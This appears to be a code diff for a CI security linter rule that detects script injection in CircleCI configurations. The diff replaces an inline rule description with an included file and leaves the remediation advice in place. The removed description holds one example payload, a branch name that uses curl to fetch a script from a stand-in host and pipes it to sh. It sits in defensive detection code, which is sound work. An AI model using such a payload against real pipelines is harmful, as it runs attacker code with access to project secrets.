@@ -19,30 +19,7 @@ pub const META: RuleMeta = RuleMeta {
     title: "Script injection: attacker-controlled text substituted into a run script",
     default_severity: Severity::High,
     default_confidence: Confidence::High,
-    description: "CircleCI replaces `<< pipeline.git.branch >>`, `<< pipeline.parameters.x >>` \
-        and `<< parameters.x >>` in the configuration when it compiles it, before any shell \
-        runs: the value becomes part of the script. A fork pull request's branch named \
-        `a$(curl${IFS}evil.sh|sh)` runs that command in the job, with its contexts and \
-        project secrets. Quoting and `echo` do not help (the attacker closes the quote; \
-        `echo \"$(…)\"` runs the substitution). Reusable commands are expanded with the \
-        arguments of each invocation, so a command parameter bound to the branch name is \
-        reported inside the command, at its own line; job parameters bound by a workflow \
-        to a pipeline value carry its taint.\n\n\
-        Environment variables the shell expands (`$CIRCLE_BRANCH`, `$CIRCLE_PR_USERNAME`) are \
-        data and are not reported, unless the script evaluates them a second time (`eval`, \
-        `sh -c \"…$CIRCLE_BRANCH\"`, `source <(…)`, running the value as a command); \
-        variables set from an attacker-controlled substitution in `environment:` are tracked \
-        the same way.\n\n\
-        Severity: High for the branch name and commit text (fork pull request authors choose \
-        them); Medium for the tag name, pipeline parameters (whoever can trigger the \
-        pipeline through the API or a setup workflow) and string parameters whose callers \
-        are not in the file (confidence Low); Low for `CIRCLE_PR_USERNAME`/`_REPONAME`/\
-        `CIRCLE_USERNAME` (character sets without shell syntax). Branch-derived text in a \
-        job that branch filters, a workflow condition or a schedule keep away from fork pull \
-        requests, or inside a `when` step whose condition requires a fixed branch, is Info; an upstream `type: approval` job lowers it one \
-        level. Both are recorded as mitigations. Not reported: `boolean`, `integer`, \
-        `enum` and `env_var_name` parameters, parameters every caller binds to literal text, \
-        and `pipeline.git.revision`, `pipeline.number`, `pipeline.id`.",
+    description: include_str!("cc002_script_injection.md"),
     remediation: "Pass the value through the environment and quote it: \
         `environment: {BRANCH: << pipeline.git.branch >>}` then `echo \"$BRANCH\"`, or use \
         `$CIRCLE_BRANCH` directly. Never `eval` it or pass it to `sh -c`. Give parameters a \
